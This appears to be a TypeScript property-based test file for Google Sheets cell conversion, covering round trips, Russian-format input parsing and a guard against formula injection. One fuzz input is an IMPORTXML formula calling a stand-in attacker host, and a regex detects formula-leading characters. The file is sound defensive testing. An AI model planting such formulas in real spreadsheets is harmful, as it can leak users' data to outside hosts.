// Cells of a table: what a rule writes it reads again, what people type is read as they meant it or refused.
import fc from 'fast-check';
import {
  type Cell,
  fromCell,
  numberFormat,
  plainText,
  safeText,
  toCell,
  type Zone,
} from '../../../src/google/workbook/cells';
import { showable } from '../../../src/domain/text';
import type { Column, ColumnType } from '../../../src/workbook/schema';

/** Novokuznetsk: seven hours ahead of UTC all the year. */
const OFFSET_MS = 7 * 3_600_000;
const zone: Zone = {
  toDate: (local) => new Date(Date.parse(`${local}:00Z`) - OFFSET_MS),
  toLocal: (date) => new Date(date.getTime() + OFFSET_MS).toISOString().slice(0, 16),
};

const column = (type: ColumnType, more: Partial<Column> = {}): Column => ({ type, title: 'Столбец', ...more });

/**
 * What the sheet gives back of a written text. An apostrophe at the beginning makes the rest text and is not part of the value;
 * https://developers.google.com/workspace/sheets/api/guides/values: a value written as if typed is parsed so.
 */
const asTyped = (cell: Cell): Cell => (typeof cell === 'string' && cell.startsWith("'") ? cell.slice(1) : cell);
/** A cell formatted as text keeps every sign. */
const asText = (cell: Cell): Cell => cell;

/** The value after a round trip through the sheet. */
function again(type: Column, value: unknown, sheet: (cell: Cell) => Cell): unknown {
  const outcome = fromCell(type, sheet(toCell(type, value, zone)), zone);
  if ('problem' in outcome) throw new Error(outcome.problem.code);
  return outcome.value;
}

const read = (type: Column, cell: Cell): unknown => fromCell(type, cell, zone);

/** Texts people write, formulas and worse among them. */
const anything = fc.oneof(
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc
    .tuple(fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '\u0000'), fc.string({ maxLength: 20 }))
    .map((parts) => parts.join('')),
  fc.constantFrom(
    '=1+1',
    '=IMPORTXML("https://evil.example";"//a")',
    '+7 900 000-00-00',
    '-5',
    '@все',
    '0012',
    '1.2',
    'TRUE',
    '10.12.2021',
  ),
);

/** Of these the marks that turn the direction of writing, and control characters, are lost on purpose. */
const text = anything.map(showable);

/** Would Sheets take it for a formula, or a program that opens an export of it? Control characters hide what follows them. */
const risky = (value: string): boolean => /^[=+\-@]/.test(value) || (value !== '' && value.charCodeAt(0) < 32);

describe('a text', () => {
  it('loses marks that turn the direction of writing, and control characters', () => {
    fc.assert(
      fc.property(anything, (value) => {
        expect(again(column('text'), `\u202e\u0007${value}\u2069`, asText)).toBe(showable(value));
      }),
    );
    expect(showable('а\tб\nв\u200dг')).toBe('а\tб\nв\u200dг');
  });

  const type = column('text');

  it('comes back as it was, whatever it begins with', () => {
    fc.assert(
      fc.property(
        text.filter((value) => !value.startsWith("'")),
        fc.constantFrom(asTyped, asText),
        (value, sheet) => {
          expect(again(type, value, sheet)).toBe(value);
        },
      ),
    );
  });

  it('that is quoted by an apostrophe comes back from a text cell as it was', () => {
    fc.assert(
      fc.property(text, (value) => {
        expect(again(type, `'${value}`, asText)).toBe(`'${value}`);
      }),
    );
  });

  it('never reaches the sheet as a formula', () => {
    fc.assert(
      fc.property(text, (value) => {
        expect(risky(safeText(value))).toBe(false);
      }),
    );
  });

  it('is changed only where it must be', () => {
    fc.assert(
      fc.property(
        text.filter((value) => !risky(value) && !value.startsWith("'")),
        (value) => {
          expect(safeText(value)).toBe(value);
          expect(plainText(value)).toBe(value);
        },
      ),
    );
  });

  it('longer than a cell may hold is cut, not refused by Sheets', () => {
    // https://support.google.com/drive/answer/37603: at most 50,000 characters in a cell
    expect(safeText('а'.repeat(60_000)).length).toBeLessThanOrEqual(50_000);
    expect(safeText('='.repeat(60_000)).length).toBeLessThanOrEqual(50_000);
    expect(safeText('а'.repeat(49_999))).toHaveLength(49_999);
  });
});

describe('a value', () => {
  const numbers = fc.oneof(
    fc.integer(),
    fc.double({ noNaN: true, noDefaultInfinity: true }).filter((value) => !Object.is(value, -0)),
  );

  it.each(['number', 'share'] as const)('of type %s comes back as the same number', (type) => {
    fc.assert(
      fc.property(numbers, (value) => {
        expect(again(column(type), value, asTyped)).toBe(value);
      }),
    );
    expect(again(column(type), undefined, asTyped)).toBeUndefined();
  });

  it('of type flag comes back', () => {
    expect([true, false].map((value) => again(column('flag'), value, asTyped))).toEqual([true, false]);
  });

  it('of type list comes back when its parts hold no separator', () => {
    const part = text
      .map((value) => value.replace(/[;\n]/g, ' ').trim())
      .filter((value) => value !== '' && !value.startsWith("'"));
    fc.assert(
      fc.property(fc.array(part), fc.constantFrom(asTyped, asText), (value, sheet) => {
        expect(again(column('list'), value, sheet)).toEqual(value);
      }),
    );
  });

  it('of type choice is shown as its label and comes back as its code', () => {
    const type = column('choice', { choices: { open: 'идёт', closed: 'завершён' } });
    expect(toCell(type, 'open', zone)).toBe('идёт');
    expect(['open', 'closed', ''].map((value) => again(type, value, asTyped))).toEqual(['open', 'closed', '']);
  });

  const days = fc.integer({ min: 0, max: 40_000 }).map((day) => new Date(day * 86_400_000).toISOString().slice(0, 10));
  const minutes = fc
    .integer({ min: 0, max: 1439 })
    .map((minute) => `${String(Math.floor(minute / 60)).padStart(2, '0')}:${String(minute % 60).padStart(2, '0')}`);

  it('of type date comes back as the same day of the school’s calendar', () => {
    fc.assert(
      fc.property(days, (day) => {
        expect(toCell(column('date'), day, zone)).toEqual(new Date(`${day}T00:00:00+07:00`));
        expect(again(column('date'), day, asTyped)).toBe(day);
      }),
    );
  });

  it('of type datetime comes back to the minute', () => {
    fc.assert(
      fc.property(days, minutes, (day, minute) => {
        expect(again(column('datetime'), `${day}T${minute}`, asTyped)).toBe(`${day}T${minute}`);
      }),
    );
  });

  it('of type json comes back, numbers below zero too', () => {
    fc.assert(
      fc.property(
        fc.jsonValue().filter((value) => value !== null && value !== ''),
        fc.constantFrom(asTyped, asText),
        (value, sheet) => {
          // JSON itself has no minus zero.
          expect(again(column('json'), value, sheet)).toEqual(JSON.parse(JSON.stringify(value)));
        },
      ),
    );
  });

  it('that is missing is an empty cell, and an empty cell is a missing value', () => {
    const types: readonly ColumnType[] = [
      'text',
      'number',
      'share',
      'date',
      'datetime',
      'flag',
      'list',
      'choice',
      'json',
    ];
    expect(types.map((type) => toCell(column(type), undefined, zone))).toEqual(types.map(() => ''));
    expect(types.map((type) => read(column(type), ''))).toEqual([
      { value: '' },
      { value: undefined },
      { value: undefined },
      { value: '' },
      { value: '' },
      { value: false },
      { value: [] },
      { value: '' },
      { value: undefined },
    ]);
  });
});

describe('what people type', () => {
  const problem = (code: string, found: string): unknown => ({ problem: { code: `cell.${code}`, fields: { found } } });

  it('into a number is read with a comma or a point, with spaces between thousands', () => {
    const type = column('number');
    expect(['1,5', '1.5', ' 12 ', '1 234', '1\u00a0234,5', '-3', '+4'].map((cell) => read(type, cell))).toEqual(
      [1.5, 1.5, 12, 1234, 1234.5, -3, 4].map((value) => ({ value })),
    );
    expect(['два', '1,2,3', '5 шт.', '50 %%', '1e3'].map((cell) => read(type, cell))).toEqual(
      ['два', '1,2,3', '5 шт.', '50 %%', '1e3'].map((found) => problem('notNumber', found)),
    );
  });

  it('into a share is read as per cent when it says so', () => {
    expect(['0,25', '25 %', '25%'].map((cell) => read(column('share'), cell))).toEqual([
      { value: 0.25 },
      { value: 0.25 },
      { value: 0.25 },
    ]);
    expect(read(column('share'), 0.5)).toEqual({ value: 0.5 });
  });

  it('into a flag is read as yes or no in the ways people write them', () => {
    const type = column('flag');
    expect(['да', 'Да ', 'TRUE', 'истина', '+', '1'].map((cell) => read(type, cell))).toEqual(
      Array(6).fill({ value: true }),
    );
    expect(['нет', 'Нет', 'false', '-', '—', '0'].map((cell) => read(type, cell))).toEqual(
      Array(6).fill({ value: false }),
    );
    expect([true, false, 1, 0].map((cell) => read(type, cell))).toEqual([
      { value: true },
      { value: false },
      { value: true },
      { value: false },
    ]);
    expect(read(type, 'может быть')).toEqual(problem('notFlag', 'может быть'));
  });

  it('into a choice is read whatever its case, by label or by code', () => {
    const type = column('choice', { choices: { open: 'идёт', closed: 'завершён' } });
    expect(['ИДЁТ', ' завершён ', 'open'].map((cell) => read(type, cell))).toEqual([
      { value: 'open' },
      { value: 'closed' },
      { value: 'open' },
    ]);
    expect(['идет скоро', 'constructor', 'OPEN'].map((cell) => read(type, cell))).toEqual([
      problem('notChoice', 'идет скоро'),
      problem('notChoice', 'constructor'),
      problem('notChoice', 'OPEN'),
    ]);
  });

  it('into a date is read in Russian and international order, and never as another day', () => {
    const type = column('date');
    expect(
      ['10.12.2021', '1.2.2021', '2021-12-10', '10.12.2021 14:30', '2021-12-10T09:05'].map((cell) => read(type, cell)),
    ).toEqual(['2021-12-10', '2021-02-01', '2021-12-10', '2021-12-10', '2021-12-10'].map((value) => ({ value })));
    expect(read(column('datetime'), '10.12.2021 9:05')).toEqual({ value: '2021-12-10T09:05' });
    for (const cell of ['31.02.2021', '12.31.2021', 'завтра', '2021', '10.12', '10.12.2021 утром'])
      expect(read(type, cell)).toEqual(problem('notDate', cell));
    expect(read(column('datetime'), '10.12.2021 25:99')).toEqual(problem('notDate', '10.12.2021 25:99'));
  });

  it('into the machine’s own notation is refused when it is not that', () => {
    expect(read(column('json'), 'не JSON')).toEqual(problem('notJson', 'не JSON'));
  });

  it('is quoted in a problem only as far as it can be read', () => {
    const outcome = fromCell(column('number'), 'я'.repeat(500), zone);
    expect(outcome).toEqual(problem('notNumber', 'я'.repeat(80)));
  });

  it('never throws, whatever the column', () => {
    const types = fc.constantFrom<ColumnType>(
      'text',
      'number',
      'share',
      'date',
      'datetime',
      'flag',
      'list',
      'choice',
      'json',
    );
    const cells = fc.oneof(
      text,
      fc.double(),
      fc.boolean(),
      fc.date({ noInvalidDate: true, min: new Date(0), max: new Date('2100-01-01') }),
    );
    fc.assert(
      fc.property(types, cells, (type, cell) => {
        expect(() => fromCell(column(type, { choices: { a: 'б' } }), cell, zone)).not.toThrow();
      }),
    );
  });
});

describe('the number format of a column', () => {
  it('keeps texts as texts, and shows numbers and dates as Russians write them', () => {
    expect(numberFormat(column('text'))).toBe('@');
    expect(numberFormat(column('flag'))).toBe('@');
    expect(numberFormat(column('json'))).toBe('@');
    expect(numberFormat(column('number'))).toBe('0');
    expect(numberFormat(column('number', { decimals: 2 }))).toBe('0.00');
    expect(numberFormat(column('share'))).toBe('0.0%');
    expect(numberFormat(column('date'))).toBe('dd.mm.yyyy');
    expect(numberFormat(column('datetime'))).toBe('dd.mm.yyyy hh:mm');
  });
});
